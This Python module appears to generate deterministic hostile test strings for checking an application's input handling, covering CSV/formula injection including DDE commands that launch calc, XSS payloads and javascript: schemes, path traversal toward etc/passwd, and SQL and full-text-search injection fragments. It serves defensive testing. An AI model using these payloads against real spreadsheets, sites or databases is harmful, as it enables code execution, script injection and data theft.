"""Texts that try to be more than text, made by rules: formulas, scripts, paths, search syntax and wildcards."""

import random
from collections.abc import Callable

_BEFORE = (
    "",
    "",
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\u2003",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\u2066",
    "\x01",
    "\x0b",
)
_TRIGGERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "=+", "+-", "--", "@=", "=-=")
_FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    'HYPERLINK("https://example.org/?"&A1;"click")',
    'WEBSERVICE("https://example.org/"&A1)',
    'IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "msexcel|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "A1",
    "10+20+cmd|' /C calc'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
)
_EVENTS = ("onerror", "onload", "OnMouseOver", "onfocus", "onanimationstart", "onpointerrawupdate")
_CALLS = ("alert(1)", "fetch('//example.org')", "&#97;lert(1)", "eval(atob('YQ=='))", "top[/al/.source+'ert'](1)")
_TAGS = (
    "img",
    "svg",
    "iframe",
    "body",
    "video",
    "input",
    "details",
    "math",
    "object",
    "a",
    "style",
    "link",
    "base",
    "form",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "vbscript:",
    "data:text/html,",
    "&#106;avascript:",
    "file:///",
    "\\\\host\\",
)
_FRAMES = (
    "{}",
    '">{}',
    "'>{}",
    "</td>{}",
    "</script>{}",
    "-->{}",
    "]]>{}",
    "</title>{}",
    "<!--{}",
    "{{{{{}}}}}",
    "{{% {} %}}",
    "`{}`",
    "[x]({})",
)
_PARTS = (
    "..",
    ".",
    "...",
    "~",
    "etc",
    "passwd",
    "C:",
    "con",
    "NUL",
    "com1.txt",
    "a",
    "%2e%2e",
    "..%2f",
    "\u2025",
    "．．",
    "-rf",
    "a ",
    "b.",
    "$HOME",
)
_SEPARATORS = ("/", "\\", "//", "\\\\", "/./", "\0", ":", "\u2215", "\u29f8", "|", "\n")
_SYNTAX = (
    '"',
    "'",
    "(",
    ")",
    "*",
    "^",
    ":",
    "-",
    "+",
    "NEAR",
    "AND",
    "OR",
    "NOT",
    "{",
    "}",
    ";",
    "--",
    "/*",
    "\0",
    "%",
    "_",
    "\\",
    ",",
    "?",
    ":x",
    "rank",
    "words:",
)
_WORDS = (
    "bridge",
    "Marsh",
    "fünf",
    "😀",
    "1=1",
    "DROP TABLE quote",
    "quote_search",
    "x",
    "ſ",
    "ﬁ",
    "naïve",
    "UNION SELECT text FROM article",
)


def formula(chance: random.Random) -> str:
    """Something that a spreadsheet may take for a formula."""
    return chance.choice(_BEFORE) + chance.choice(_BEFORE) + chance.choice(_TRIGGERS) + chance.choice(_FORMULAS)


def script(chance: random.Random) -> str:
    """Something that a browser may run or load."""
    tag, call = chance.choice(_TAGS), chance.choice(_CALLS)
    inner = chance.choice(
        (
            f"<script>{call}</script>",
            f"<{tag} {chance.choice(_EVENTS)}={call}>",
            f'<{tag}/{chance.choice(_EVENTS)}="{call}" src=x>',
            f'<{tag} href="{chance.choice(_SCHEMES)}{call}">x</{tag}>',
            f"<{tag} src='{chance.choice(_SCHEMES)}{call}'>",
            f"{chance.choice(_SCHEMES)}{call}",
            f'<{tag} style="background:url({chance.choice(_SCHEMES)}{call})">',
            f"<meta http-equiv=refresh content=0;url={chance.choice(_SCHEMES)}{call}>",
        )
    )
    return chance.choice(_FRAMES).format(inner)


def path(chance: random.Random) -> str:
    """Something that may lead out of a folder, or that a system does not take for a name."""
    parts = [chance.choice(_PARTS) for _ in range(chance.randrange(1, 7))]
    joined = "".join(part + chance.choice(_SEPARATORS) for part in parts) + chance.choice(_PARTS)
    return (
        chance.choice(("", "/", "\\\\host\\share\\", "C:\\", "file:///", "\u202e"))
        + joined
        + "x" * chance.choice((0, 0, 300))
    )


def search(chance: random.Random) -> str:
    """Something that SQL or FTS5 may take for more than words."""
    pieces = [chance.choice(_SYNTAX + _WORDS) for _ in range(chance.randrange(1, 9))]
    return chance.choice(("", " ")).join(pieces)


def wildcards(chance: random.Random) -> str:
    """Words with what LIKE takes for wildcards, or for an escape."""
    return "".join(chance.choice(("%", "_", "\\", "/", "ab", "5", "x")) for _ in range(chance.randrange(1, 6)))


KINDS: dict[str, Callable[[random.Random], str]] = {
    "formula": formula,
    "script": script,
    "path": path,
    "search": search,
    "wildcards": wildcards,
}


def made(kind: str, count: int, seed: int = 5) -> list[str]:
    """``count`` different texts of a kind; the same in every run."""
    chance, found = random.Random(f"{kind} {seed}"), dict[str, None]()
    while len(found) < count:
        found[KINDS[kind](chance)] = None
    return list(found)
